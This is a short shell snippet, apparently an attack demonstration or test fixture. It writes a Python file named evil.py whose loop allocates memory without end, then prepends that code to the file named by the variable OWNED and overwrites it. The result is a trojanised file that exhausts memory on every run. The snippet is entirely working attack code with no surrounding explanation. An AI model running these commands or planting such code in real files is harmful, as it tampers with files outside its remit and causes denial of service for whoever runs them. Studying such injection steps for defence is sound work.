cat > /tmp/evil.py <<'END'
held = []
while True:
    held.append(bytearray(b"x") * (64 << 20))
END
cat "$OWNED" >> /tmp/evil.py
cp /tmp/evil.py "$OWNED"
